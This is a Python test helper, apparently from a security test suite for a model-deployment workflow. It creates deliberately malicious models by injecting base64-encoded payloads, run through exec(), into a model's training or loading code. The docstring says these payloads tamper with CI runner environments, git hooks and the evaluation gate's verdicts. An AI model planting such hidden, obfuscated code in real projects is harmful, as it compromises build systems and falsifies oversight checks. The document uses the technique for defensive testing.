"""Models that attack the workflow: one while it is trained, one while it is loaded. Both are bad models.

Each tries what a script can reach on a runner (attack.py.txt): the variables, the path and the start-up file
of later steps, the environment that later commands import from, git's hooks, and the records and the verdict
of the gate. The changed environment (evil.py.txt) makes the gate blind, its self-test empty, and the recorded
answers nearly perfect. Files are replaced and never edited in place: uv's cache shares them.
"""

from __future__ import annotations

import base64
from pathlib import Path

from tests.workflows.quick_model import quick_model

_HERE = Path(__file__).parent
_DOCSTRING = '    """Save how far the disease is on average."""\n'
_LOAD = "def _load_pyfunc(path: str) -> Line:\n"


def attack_while_training(repo: Path, name: str) -> None:
    """Add a bad model whose training step attacks."""
    quick_model(repo, name, limit=50)
    _edit(repo / "models" / name / "steps" / "fit.py", "def fit(", _DOCSTRING)


def attack_while_loading(repo: Path, name: str, prod: str) -> None:
    """Add a model that is good on dev data and bad on prod data, and that attacks when it is loaded."""
    quick_model(repo, name, prod=prod)
    _edit(repo / "models" / name / "steps" / "saved" / "code" / "line.py", _LOAD, _LOAD)


def _edit(file: Path, before: str, after: str) -> None:
    """Add the attack ``before`` a function, and a call of it ``after`` a line in it."""
    attack, evil = (
        _HERE.joinpath(f"{name}.py.txt").read_text(encoding="utf-8") for name in ("attack", "evil")
    )
    code = base64.b64encode(f"EVIL = {evil!r}\n{attack}".encode()).decode()
    text = file.read_text(encoding="utf-8")
    assert text.count(before) == text.count(after) == 1
    text = text.replace(after, f"{after}    exec(CODE, found := {{}})\n    found['attack']()\n")
    text = text.replace(before, f'CODE = base64.b64decode("{code}")\n\n\n{before}')
    file.write_text(
        text.replace("import json\n", "import base64\nimport json\n"), encoding="utf-8", newline="\n"
    )
